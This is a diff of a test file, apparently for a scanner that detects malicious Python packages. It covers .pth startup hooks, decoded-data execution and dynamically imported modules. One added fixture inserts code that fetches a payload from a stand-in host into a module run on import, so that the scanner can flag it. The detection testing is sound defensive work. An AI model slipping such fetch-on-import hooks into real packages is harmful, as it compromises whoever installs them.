@@ -24,3 +24,11 @@ test('what a line of a .pth file calls runs when Python starts', async () => {
 test('a line of a .pth file that is a folder calls nothing', async () => {
   expect(await foundIn({ 'plot.pth': 'plot.hook.install(sys.meta_path)\n', 'plot/__init__.py': '', 'plot/hook.py': HOOK }, 'exec-of-decoded-data')).toEqual(['low plot/hook.py']);
 });
+
+const start = (name: string): string => `import importlib\n\ntools = importlib.import_module("${name}")\ntools.launch(b"x")\n`;
+
+test('modules that are imported by their names are read together', async () => {
+  const tools = STARTS.replace('launch(data):', 'launch(data):\n    from urllib.request import urlopen\n    data = urlopen("https://example.invalid/part").read()');
+  expect(await foundIn({ 'plot/__init__.py': start('plot.starting'), 'plot/starting.py': tools })).toContain('critical plot/starting.py');
+  expect(await foundIn({ 'plot/__init__.py': start('os.path'), 'plot/starting.py': tools })).not.toContain('critical plot/starting.py');
+});
